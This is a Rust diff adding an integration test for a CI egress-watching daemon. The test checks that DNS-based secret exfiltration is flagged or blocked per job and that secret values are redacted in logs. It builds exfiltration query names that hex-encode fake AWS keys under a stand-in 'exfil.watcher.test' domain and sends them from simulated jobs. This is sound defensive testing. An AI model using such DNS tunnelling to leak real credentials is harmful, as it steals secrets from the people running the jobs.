@@ -23,8 +23,15 @@ struct Daemon {
 
 impl Daemon {
     fn start(config: &Path, dir: &TempDir) -> Daemon {
+        Daemon::start_with(config, dir, |_| {})
+    }
+
+    /// Started with `env` applied to the daemon's command (its own environment).
+    fn start_with(config: &Path, dir: &TempDir, env: impl FnOnce(&mut Command)) -> Daemon {
         let stderr = dir.join("daemon.stderr");
-        let child = Command::new(watcher_bin())
+        let mut cmd = Command::new(watcher_bin());
+        env(&mut cmd);
+        let child = cmd
             .args(["daemon", "--config"])
             .arg(config)
             .stdin(Stdio::null())
@@ -576,5 +583,148 @@ fn dns_rules_and_learned_addresses_are_per_job() {
     assert_eq!(alerts(&log_of("e")), vec![("dns-denied".to_string(), "deny".to_string())]);
     assert_eq!(alerts(&log_of("f")), vec![("dns-denied".to_string(), "flag".to_string())]);
     assert_eq!(alerts(&log_of("g")), vec![("egress-denied".to_string(), "deny".to_string())]);
+    assert_eq!(d.stop(), Some(0));
+}
+
+/// A per-test value that looks like a secret: `prefix` then random letters and digits (40
+/// characters), so its redacted form (`Aa…(40 chars)`) tells the values apart.
+fn fake_secret(prefix: &str) -> String {
+    let mut b = [0u8; 64];
+    std::fs::File::open("/dev/urandom").unwrap().read_exact(&mut b).unwrap();
+    let abc = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+    let tail: String = b.iter().map(|x| abc[*x as usize % abc.len()] as char).take(40 - prefix.len()).collect();
+    format!("{prefix}{tail}")
+}
+
+fn redacted(v: &str) -> String {
+    format!("{}…({} chars)", &v[..2], v.chars().count())
+}
+
+/// A DNS name that carries `v` hex-encoded (two labels) under the attacker's domain.
+fn exfil_name(v: &str) -> String {
+    let hex: String = v.bytes().map(|b| format!("{b:02x}")).collect();
+    format!("{}.{}.exfil.watcher.test", &hex[..40], &hex[40..])
+}
+
+/// The (variable, redacted value, action) of each secret-exfil alert.
+fn secret_alerts(events: &[Value]) -> Vec<(String, String, String)> {
+    let mut v: Vec<(String, String, String)> = events
+        .iter()
+        .filter(|e| e["kind"] == "alert" && e["rule"] == "secret-exfil")
+        .map(|e| {
+            (
+                e["variable"].as_str().unwrap_or("").to_string(),
+                e["redacted"].as_str().unwrap_or("").to_string(),
+                e["action"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect();
+    v.sort();
+    v.dedup();
+    v
+}
+
+#[test]
+fn secrets_are_looked_for_with_each_jobs_own_values_not_the_daemons() {
+    if !root_or_skip() {
+        return;
+    }
+    let dir = TempDir::new("watcher-daemon-secrets");
+    let dns_ip = "127.53.0.73";
+    let dns = DnsServer::start(dns_ip.parse().unwrap(), vec![]).unwrap();
+    let pol = |pipeline: &str, mode: &str| {
+        format!("version: 1\npipeline: {pipeline}\nmode: {mode}\negress:\n  loopback: false\ndns:\n  resolvers: [{dns_ip}]\n")
+    };
+    std::fs::write(dir.join("audit.yaml"), pol("audit", "audit")).unwrap();
+    std::fs::write(dir.join("enforce.yaml"), pol("enforce", "enforce")).unwrap();
+    let config = dir.join("daemon.yaml");
+    std::fs::write(
+        &config,
+        "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\njob_end_grace: 300ms\n\
+         jobs:\n  id_env: [WDT_SEC_RUN_ID]\n  pipeline_env: [WDT_REPO]\n\
+         pipelines:\n  - match: \"acme/audit\"\n    policy: audit.yaml\n  - match: \"acme/enforce\"\n    policy: enforce.yaml\n",
+    )
+    .unwrap();
+    // Job a's and b's keys, a value job a exports later, and one only the daemon has (under
+    // a name the policies protect: *_TOKEN).
+    let (a, b, later, own) = (fake_secret("Aa"), fake_secret("Bb"), fake_secret("Cc"), fake_secret("Dd"));
+    let mut d = Daemon::start_with(&config, &dir, |c| {
+        c.env_remove("AWS_SECRET_ACCESS_KEY").env_remove("AWS_SESSION_TOKEN").env("WDT_DAEMON_DEPLOY_TOKEN", &own);
+    });
+    let np = netprobe_bin().display().to_string();
+    let q = |v: &str| format!("dns-sendto {dns_ip} {} A", exfil_name(v));
+    // Job a (audit): leaks its own key, b's, the daemon's; puts its key in an argument; then
+    // exports a new value (taken from an unprotected variable, so no argument holds it) that
+    // a child leaks (the child sleeps first: the daemon reads its environment at its exec).
+    let script_a = format!(
+        "{np} sleep 300 {} {} {}; /bin/echo \"$AWS_SECRET_ACCESS_KEY\" >/dev/null; \
+         export AWS_SESSION_TOKEN=\"$WDT_LATER\"; sh -c '{np} sleep 300 {}; true'; {np} sleep 500",
+        q(&a), q(&b), q(&own), q(&later)
+    );
+    // Job b (enforce), at the same time: leaks its own key and a's.
+    let script_b = format!("{np} sleep 300 {} {}; {np} sleep 800", q(&b), q(&a));
+    let spawn = |id: &str, repo: &str, key: &str, script: &str| {
+        Command::new("sh")
+            .args(["-c", script])
+            .env("WDT_SEC_RUN_ID", id)
+            .env("WDT_REPO", repo)
+            .env("AWS_SECRET_ACCESS_KEY", key)
+            .env_remove("AWS_SESSION_TOKEN")
+            .env("WDT_LATER", &later)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap()
+    };
+    let ja = spawn("a", "acme/audit", &a, &script_a);
+    let jb = spawn("b", "acme/enforce", &b, &script_b);
+    let (oa, ob) = (ja.wait_with_output().unwrap(), jb.wait_with_output().unwrap());
+    let (ea, eb) = (String::from_utf8_lossy(&oa.stderr).into_owned(), String::from_utf8_lossy(&ob.stderr).into_owned());
+    assert!(oa.status.success() && ob.status.success(), "{ea}\n{eb}\n{}", d.log());
+    // Audit lets job a's queries out; enforce drops job b's.
+    let names: Vec<String> = dns.queries().iter().map(|q| q.name.to_ascii_lowercase()).collect();
+    assert!(names.contains(&exfil_name(&a).to_ascii_lowercase()) && names.contains(&exfil_name(&later).to_ascii_lowercase()), "{names:?}\n{ea}");
+    assert_eq!(names.len(), 4, "job b's queries never leave: {names:?}\n{eb}");
+    let mut st = Value::Null;
+    assert!(wait_until(Duration::from_secs(20), || {
+        st = d.status();
+        st["jobs"].as_array().unwrap().iter().filter(|j| j["state"] == "ended").count() == 2
+    }), "{st:#}\n{}", d.log());
+    let ended = |id: &str| st["jobs"].as_array().unwrap().iter().find(|j| j["id"] == format!("WDT_SEC_RUN_ID={id}")).unwrap().clone();
+    let (la, lb) = (ended("a"), ended("b"));
+    let text_a = std::fs::read_to_string(dir.join(la["log"].as_str().unwrap())).unwrap();
+    let text_b = std::fs::read_to_string(dir.join(lb["log"].as_str().unwrap())).unwrap();
+    let (log_a, log_b) = (read_jsonl(dir.join(la["log"].as_str().unwrap())), read_jsonl(dir.join(lb["log"].as_str().unwrap())));
+    // Each job's alerts name its own values only: not the other job's, not the daemon's.
+    assert_eq!(
+        secret_alerts(&log_a),
+        vec![
+            ("AWS_SECRET_ACCESS_KEY".to_string(), redacted(&a), "flag".to_string()),
+            ("AWS_SESSION_TOKEN".to_string(), redacted(&later), "flag".to_string()),
+        ],
+        "{text_a}\n{}",
+        d.log()
+    );
+    assert_eq!(
+        secret_alerts(&log_b),
+        vec![("AWS_SECRET_ACCESS_KEY".to_string(), redacted(&b), "deny".to_string())],
+        "{text_b}\n{}",
+        d.log()
+    );
+    let alert = log_a.iter().find(|e| e["kind"] == "alert" && e["variable"] == "AWS_SECRET_ACCESS_KEY").unwrap();
+    let msg = alert["message"].as_str().unwrap();
+    assert!(msg.contains("AWS_SECRET_ACCESS_KEY") && msg.contains(&redacted(&a)) && msg.contains("DNS query name"), "{msg}");
+    // The key expanded into an argument is logged redacted.
+    let echo = log_a.iter().find(|e| e["kind"] == "exec" && e["filename"] == "/bin/echo").unwrap_or_else(|| panic!("{text_a}"));
+    assert_eq!(echo["argv"], serde_json::json!(["/bin/echo", redacted(&a)]), "{echo}");
+    // No value is written anywhere: logs and the daemon's own output.
+    let daemon_log = d.log();
+    for v in [&a, &b, &later, &own] {
+        for (what, text) in [("job a's log", &text_a), ("job b's log", &text_b), ("the daemon's output", &daemon_log)] {
+            assert!(!text.contains(v.as_str()), "a value is in {what}");
+        }
+    }
+    assert!(daemon_log.contains("AWS_SECRET_ACCESS_KEY"), "the names looked for are logged: {daemon_log}");
     assert_eq!(d.stop(), Some(0));
 }
